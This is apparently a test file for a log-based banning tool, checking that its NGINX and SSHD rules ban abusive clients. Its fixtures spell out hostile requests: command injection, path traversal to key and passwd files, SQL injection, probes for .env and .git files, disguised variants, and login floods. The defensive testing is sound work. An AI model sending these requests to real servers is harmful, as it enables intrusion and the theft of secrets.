  const looked: readonly (readonly [rule: string, line: (i: number) => string])[] = [
    ["missing_script", (i) => get(`/x${i}.php`)],
    ["leftovers", (i) => get(`/copy${"abcdef"[i]}.zip`)],
    ["leftovers", (i) => get(`/copy${i}.sql.gz`)],
    ["exploit_query", () => get("/x?cmd=cd${IFS}/srv", 200)],
    // A server that answers each request on port 80 by the same one on port 443.
    ["leftovers", (i) => get(`/app${i}/.env`, 301)],
    ["leftovers", (i) => get(`/mail${i}.env`, 503)],
    ["sql_injection", (i) => get(`/item?id=1/**/and/**/${i}=${i}`, 200)],
    ["exploit", () => get("/app/../../srv/keys", 200)],
    ["exploit", () => get("/static../../srv/keys", 200)],
    ["attack_tool", () => access("POST /api HTTP/1.1", 200, { agent: "libredtail-http" })],
  ];
  for (const [name, line] of looked) {
    const { limit } = CONFIG.modules.flatMap(({ rules }) => rules).find((rule) => rule.name === name)!;
    assert.deepEqual(bansOf("NGINX", Array.from({ length: limit + 1 }, (_, i) => line(i)), 0.5), [name]);
  }
});

Deno.test("the shipped rules of NGINX ban an attack that is dressed as what they spare", () => {
  const dressed: readonly (readonly [rule: string, line: (i: number) => string])[] = [
    ["secrets", (i) => get(`/./.git/${i}`, 200)],
    ["leftovers", (i) => get(`/backup${i}.sql#.png`)],
    ["scanner", (i) => get(`/app${i}/wp-login.php/x.jar`)],
    ["scanner", (i) => get(`/app${i}/wp-login.php/dav/x`)],
    ["missing_script", (i) => get(`/app${i}.php/webdav/gone.php`)],
    // Tomcat leaves out what follows ";".
    ["refused", (i) => get(`/app${i};/x.png`, 403)],
    ["not_found", (i) => get(`/app${i};x.js`)],
    ["not_found", (i) => get(`/app${i};x:0123456789abcdef`)],
    ["not_found", (i) => get(`/app${i};/x/index.json`)],
    ["exploit_query", () => get("/index.php/matomo.php?page=../../etc/passwd", 200)],
    ["sql_injection", (i) => get(`/item.php/piwik.php?id=${i}+union+select+1`, 200)],
    ["refused_form", () => access("POST /login.php/inbox HTTP/1.1", 403)],
    ["wordpress_login", () => access("POST /wp-login.php?for=jetpack&token=x HTTP/1.1", 200)],
    ["wordpress_login", () => access("POST /wp%2Dlogin%2ephp HTTP/1.1", 200)],
    ["wordpress_flood", () => access("POST /xmlrpc.php?for=jetpack&token=x HTTP/1.1", 200)],
    ["wordpress_flood", () => access("POST /wp-login.php HTTP/1.1", 200, { agent: "wp-iphone/22.3" })],
    ["refused_form", () => access("POST /login.php/sync HTTP/1.1", 403)],
    ["refused_form", () => access("POST /login.php/wp-admin/admin-ajax.php HTTP/1.1", 403)],
    ["bad_request", () => access("POST /login.php/wp-admin/admin-ajax.php HTTP/1.1", 400)],
    ["bad_request", () => access("POST /login.php/write HTTP/1.1", 400)],
    ["refused_form", () => access("POST /login.php/envelope HTTP/1.1", 403)],
    ["bad_page", (i) => get(`/item?id=${i}'`, 400)],
    ["refused_flood", (i) => access(`GET /app${i} HTTP/1.1`, 403, { agent: "Googlebot/2.1" })],
    ["bad_page", (i) => get(`/item${i}%zz;/0123456789abcdef`, 400)],
    ["bad_request", () => access("POST /login/token HTTP/1.1", 400)],
    ["bad_token", () => access("POST /oauth/token HTTP/1.1", 400)],
    ["wordpress_redirect", () => access("POST /wp-login.php?action=postpass HTTP/1.1", 302)],
    ["sql_injection", (i) => get(`/item?q=select+a&id=${i}'+or+'1'='1`, 200)],
    ["exploit", () => get("/app/..%2f..%2fsrv/keys", 200)],
  ];
  for (const [name, line] of dressed) {
    const { limit } = CONFIG.modules.flatMap(({ rules }) => rules).find((rule) => rule.name === name)!;
    assert.deepEqual(bansOf("NGINX", Array.from({ length: limit + 1 }, (_, i) => line(i)), 0.5), [name]);
  }
});

Deno.test("the shipped rules of NGINX ban who guesses at a form beside other forms that are accepted", () => {
  const instants = Array.from({ length: 61 }, () => [
    access("POST /search HTTP/1.1", 200),
    access("POST /api/login HTTP/1.1", 401),
  ]);
  assert.deepEqual(bansOf("NGINX", instants, 1), ["refused_form"]);
});

Deno.test("the shipped rules of NGINX ban who guesses at a form, and asks for its page before", () => {
  for (
    const [request, status] of [["GET /login", 200], ["HEAD /login", 200], ["OPTIONS /login", 204]] as const
  ) {
    for (const refusal of [401, 403]) {
      const instants = Array.from({ length: 61 }, () => [
        access(`${request} HTTP/1.1`, status),
        access("POST /login HTTP/1.1", refusal),
      ]);
      assert.deepEqual(bansOf("NGINX", instants, 1), ["refused_form"], `${request} ${refusal}`);
    }
  }
});

Deno.test("the shipped rules of NGINX ban who guesses at a form that once accepted a guess", () => {
  const instants = Array.from({ length: 601 }, (_, i) => [access("POST /api/login HTTP/1.1", i ? 401 : 200)]);
  assert.deepEqual(bansOf("NGINX", [...instants, ...instants.slice(1, 2)], 0.9), ["refused_form"]);
});

Deno.test("the shipped rules of NGINX ban who looks for what is not there under a name", () => {
  const instants = Array.from(
    { length: 601 },
    (_, i) => [access(`GET /page/${i} HTTP/1.1`, 404, { user: "x" })],
  );
  assert.deepEqual(bansOf("NGINX", instants.slice(0, 600), 0.9), []);
  assert.deepEqual(bansOf("NGINX", instants, 0.9), ["not_found"]);
});

Deno.test("the shipped rules of SSHD ban who breaks off with a fatal error, as old servers and FreeBSD's call it", () => {
  for (const name of ["fatal: ssh_dispatch_run_fatal", "Fssh_ssh_dispatch_run_fatal"]) {
    const line = (i: number) =>
      `${name}: Connection from ${port(i)}: message authentication code incorrect [preauth]`;
    assert.deepEqual(bansOf("SSHD", Array.from({ length: 11 }, (_, i) => line(i)), 60), ["not_ssh"]);
  }
});

Deno.test("the shipped rules of SSHD ban who connects and goes, by two messages for each connection", () => {
  const instants = Array.from({ length: 11 }, (_, i) => [
    "error: kex_exchange_identification: Connection closed by remote host",
    `Connection closed by ${port(i)}`,
  ]);
  assert.deepEqual(bansOf("SSHD", instants, 10), [], "two processes");
  const together = instants.map((lines) => lines.join("\n"));
  assert.deepEqual(bansOf("SSHD", together, 10), ["not_ssh"]);
});
